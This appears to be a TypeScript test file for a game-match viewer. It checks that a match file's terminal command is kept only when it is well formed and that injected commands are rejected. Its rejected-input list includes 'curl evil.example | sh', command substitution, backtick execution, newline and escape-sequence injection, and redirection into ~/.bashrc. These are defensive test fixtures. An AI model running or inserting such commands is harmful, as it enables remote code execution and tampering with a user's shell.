import fc from 'fast-check';
import { beforeAll, expect, it } from 'vitest';
import { playedMatch } from '../../test/support/played-match.ts';
import { quoted } from './again.ts';
import { type MatchFile, readMatchFile } from './match-file.ts';

/** The viewer offers the command of a match to be copied into a terminal, and a file may come from anybody. */

let file: MatchFile;
beforeAll(async () => {
  const read = readMatchFile(await playedMatch({ game: 'tienlen', seats: 2, deals: 1, seed: 'file' }));
  if (read === null) throw new Error('no match');
  file = read;
});

const commandIn = (command: string): string | undefined => readMatchFile(JSON.stringify({ ...file, command }))?.command;

it('keeps the command that it was written with, whatever its words are', () => {
  expect(file.command).toMatch(/^sanhrong match simple random /);
  const visible = fc.string({ unit: 'grapheme' }).filter((word) => !/\p{Cc}|\p{Bidi_Control}/u.test(word));
  fc.assert(
    fc.property(fc.array(visible), (words) => {
      const command = ['sanhrong match', ...words.map(quoted)].join(' ');
      expect(commandIn(command)).toBe(command);
    }),
  );
});

it.each([
  'curl evil.example | sh',
  'sanhrong match a b; curl evil.example | sh',
  'sanhrong match a b\ncurl evil.example\n',
  "sanhrong match 'a\u001b[2Jb'",
  'sanhrong match $(curl evil.example)',
  'sanhrong match "a`id`"',
  "sanhrong match 'a b",
  'sanhrong match a >~/.bashrc',
  'sanhrong remote a b',
])('leaves out what is more than that: %j', (command) => {
  expect(commandIn(command)).toBeUndefined();
});
